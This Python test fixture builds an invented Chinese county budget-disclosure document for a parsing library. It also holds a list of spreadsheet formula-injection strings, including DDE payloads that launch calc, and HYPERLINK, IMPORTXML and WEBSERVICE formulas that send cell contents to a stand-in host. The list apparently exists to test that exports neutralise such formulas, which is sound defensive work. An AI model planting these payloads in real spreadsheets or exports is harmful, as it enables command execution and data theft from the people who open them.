"""An invented document in which every field of the model says something, and texts made to harm."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date
from decimal import Decimal

from jixiao.model import (
    Account,
    Caption,
    Claim,
    ContentsEntry,
    Document,
    DocumentKind,
    EvaluatedProject,
    EvaluationSummary,
    FileSource,
    FundingLine,
    Indicator,
    IndicatorRound,
    Line,
    MonitoringRound,
    PersonalData,
    Project,
    Repair,
    Result,
    Section,
    SelfEvaluation,
    Table,
)
from jixiao.provenance import Problem, SourceRef
from jixiao.values import Kind, Polarity, Target

FILE = "青岚县水务局.pdf"
PHONE = "13900001234"
PERSON = "林栖梧"


def at(line: int, cell: int = 1) -> SourceRef:
    """A place with every part that any format has."""
    return SourceRef(FILE, line, cell, page=2, box=(10.5, 20.0, 30.0, 40.25), sheet="表", address="B7", table=3, row=4, paragraph=5)


def target(text: str = "≥95%") -> Target:
    return Target(
        text=text,
        kind=Kind.NUMERIC,
        operator="=",
        value=Decimal("95.5"),
        value_high=Decimal(99),
        unit="percent",
        unit_text="%",
        dimension="ratio",
        per=("人", "天"),
        approx=True,
        deadline=date(2025, 12, 31),
        period="2025-Q3",
        schedule="monthly",
        level=2,
        direction="increase",
        baseline="last_year",
        state="in_use",
        hint_value=Decimal(7),
        polarity=Polarity.POSITIVE,
        issues=("implicit_per", "bare"),
        confidence=0.9,
    )


def indicator() -> Indicator:
    return Indicator(
        level1="产出指标",
        level2="数量指标",
        level1_code="output",
        level2_code="output.quantity",
        name="巡查次数",
        description="全年巡查的次数",
        basis="工作计划",
        target=target(),
        target_of_period=target("≥300次"),
        weight=Decimal("12.5"),
        value_type="定量",
        extra={"备注": "按月"},
        monitoring=in_round(),
        result=Result(
            actual=target("380次"),
            adjusted_target=target("≥360次"),
            score=Decimal("12.1"),
            coefficient_pct=Decimal(95),
            reason="雨季停巡",
            measure="错峰巡查",
        ),
        placeholder=True,
        source=at(21),
        sources={"target": [at(21, 5), at(40, 5)]},
        confidence=0.8,
    )


def in_round() -> IndicatorRound:
    return IndicatorRound(
        actual=target("180次"),
        actual_of_month=target("20次"),
        forecast=target("310次"),
        causes={"staff": "巡查员两人离职"},
        reason="八月补招",
        measure="排班调整",
        attainability=2,
    )


def funding() -> FundingLine:
    return FundingLine(
        key="annual",
        initial_budget=Decimal(100),
        adjusted_budget=Decimal(120),
        executed_amount=Decimal("90.5"),
        forecast_amount=Decimal("118.5"),
        rate_pct=Decimal("75.42"),
        weight=Decimal(10),
        score=Decimal("7.54"),
        reason="招标推迟",
        source=at(13),
    )


def project() -> Project:
    return Project(
        name="河道巡查",
        code="41220025P0001",
        department="青岚县水务局",
        department_code="231",
        unit="青岚县河道管理所",
        unit_code="231001",
        attribute="02-经常性项目",
        period="1年",
        amounts={"total": Decimal(3_000_000), "annual": Decimal("1000000.55"), "other": None},
        amounts_of_period={"central": Decimal(-5)},
        steps={"amounts.annual": Decimal("0.01"), "amounts_of_period.central": Decimal(1)},
        funding=[funding()],
        monitoring=MonitoringRound(month=7, asks_measures=True),
        evaluation=SelfEvaluation(
            total_weight=Decimal(100),
            total_score=Decimal("96.5"),
            grade="优",
            conclusion="总体完成",
            problems="进度偏慢",
            measures="提前招标",
        ),
        payment_plan={"6": "50%", "12": "全部"},
        goal="全年巡查河道。",
        goal_of_period="三年内河道清洁。",
        narratives={"立项依据": "河道管理条例", "项目概况": None},
        contacts={"经办人": PERSON, "联系电话": PHONE},
        indicators=[indicator()],
        copies=[at(60)],
        source=at(11),
        sources={
            "amounts.annual": [at(12, 2)],
            "narratives.立项依据": [at(14)],
            "contacts.联系电话": [at(30, 6)],
            "payment_plan.6": [at(15)],
        },
        repairs=[Repair(kind="joined", source=at(22), printed="次数", read_as="巡查次数")],
        confidence=0.7,
    )


def table() -> Table:
    return Table(
        title="支出总表",
        kind="T03_expenditure",
        unit="万元",
        empty=True,
        note="注：不含结转。",
        columns=["科目编码", "科目名称", "合计"],
        rows=[["201", "一般公共服务支出", "1.50"], ["", "合计", "1.50"]],
        lines=[
            Line(
                code="201",
                name="一般公共服务支出",
                level=1,
                code_name="一般公共服务支出",
                code_list="function",
                values_yuan={"合计": Decimal(15_000)},
                source=at(70),
            )
        ],
        source=at(69),
        sources={"rows": [at(70), at(71, 2)], "cells": [at(70), at(70, 2), at(70, 3), at(71, 2), at(71, 3)], "title": [at(68)]},
        repairs=[Repair(kind="name_by_code", source=at(70), printed="一般公共", read_as="一般公共服务支出")],
        confidence=0.6,
    )


def listed() -> EvaluationSummary:
    """A list of self-evaluations of one project, with a subtotal and a total."""
    row = EvaluatedProject(
        table_row=3,
        name="河道巡查",
        code="P-01",
        department="青岚县水务局",
        unit="河道所",
        initial_budget=Decimal("1200000"),
        adjusted_budget=Decimal("1300000"),
        executed_amount=Decimal("1170000"),
        rate_pct=Decimal(90),
        execution_score=Decimal(9),
        total_score=Decimal("96.5"),
        grade="优",
        remark="已公开",
        extra={"联系科室": "工管科"},
        steps={"adjusted_budget": Decimal(10000)},
        source=at(70),
        sources={"name": [at(70)]},
    )
    rows = [row.model_copy(update={"name": name}) for name in ("小计", "合计")]
    return EvaluationSummary(title="自评结果汇总表", table_no=1, rows=[row], subtotals=[rows[0]], total=rows[1], source=at(69))


def document(**changes: object) -> Document:
    """The document, with fields of it changed."""
    claim = Claim(
        metric="total_income",
        year=2025,
        value_yuan=Decimal("19224000.01"),
        value=Decimal("3.5"),
        unit="万元",
        direction="increase",
        text="收入总计1,922.40万元",
        source=at(81),
    )
    fields: dict[str, object] = {
        "source": FileSource(file=FILE, sha256="0123456789abcdef" * 4, media_type="application/pdf", pages=12),
        "publisher": "青岚县水务局",
        "fiscal_year": 2025,
        "kind": DocumentKind.BUDGET_DISCLOSURE,
        "projects": [project()],
        "whole_department": [project().model_copy(update={"name": "部门整体"})],
        "tables": [table()],
        "summaries": [listed()],
        "sections": [
            Section(heading="一、概况", level=1, text="职能。\n机构。", claims=[claim], source=at(80), sources={"text": [at(81), at(82)]})
        ],
        "contents": [ContentsEntry(text="收支总表", page=3, source=at(3))],
        "captions": [Caption(text="公开表1", source=at(67))],
        "personal_data": [PersonalData(kind="mobile", source=at(30, 6))],
        "sources": {"publisher": [at(1)]},
        "problems": [Problem("READ-014", at(9), {"label": "合计", "text": "1,2OO.5"})],
        "notes": [Problem("READ-014", at(10), {"label": "合计", "text": "####"})],
        "account": Account(cells=10, typed=4, prose=3, ignored=2, problems=1, ignored_as={"label": 2}),
    }
    return Document.model_validate(fields | changes)


@dataclass(frozen=True)
class Hostile:
    """A text, and whether a spreadsheet would take it for a formula."""

    text: str
    is_formula: bool = True


_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
_CALLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.invalid?x="&A1,"看")',
    '=IMPORTXML(CONCAT("http://a.invalid/",A1),"//a")',
    "=1+1",
    "=SUM(A1:A9)",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://a.invalid")',
    "+8613900001234",
    "-5%",
    "=",
    "-",
    "--",
    '="a"\r\n=1',
    "=a,b;c\td",
    "={1;2}",
    "=_xlfn.X()",
    "=A1\x00B",
)
_BEHIND = (
    " ",
    "  ",
    "\u3000",
    "\u00a0",
    "'",
    "''",
    "' '",
    " '",
    "\t ",
    "\x00",
    "\x01",
    "\x0b",
    "\x1f",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\x7f",
    "\x85",
)
_HARMLESS = (
    "'",
    "''",
    "'90年代",
    "' 空格",
    "≥95%",
    "100-200",
    "a=b",
    "a\r\nb",
    "a\tb",
    "_x0041_",
    "_x0041_x0042_",
    "_x005F_x0041_",
    "_x000D_",
    "_X0041_",
    "a_x0000_\x00",
    "\x00",
    "a\x1fb",
    "<r><t>富文本</t></r>",
    "<r>",
    "&amp;<b>",
    '"引号"',
    'a"b,c',
    "0101",
    "00123456789012345678",
    "1E5",
    "2025-12-31",
    "TRUE",
    "http://a.invalid/x",
    "mailto:a@b.invalid",
    "internal:Sheet1!A1",
    "𠀀𠀁",
    " 前后有空格 ",
    "末尾换行\n",
)
HOSTILE = [
    *(Hostile(f"{start}1+1") for start in _STARTS),
    *(Hostile(call) for call in _CALLS),
    *(Hostile(f"{before}=1+1") for before in _BEHIND),
    *(Hostile(f"{before}＝A1") for before in _BEHIND[:6]),
    *(Hostile(text, is_formula=False) for text in _HARMLESS),
]
"""Formulas, texts that only look so, and texts that a format could spoil."""


def hostile_document() -> Document:
    """A document with each hostile text as a narrative."""
    texts = {f"第{number}条": item.text for number, item in enumerate(HOSTILE, start=1)}
    return document(projects=[project().model_copy(update={"narratives": texts})], whole_department=[])
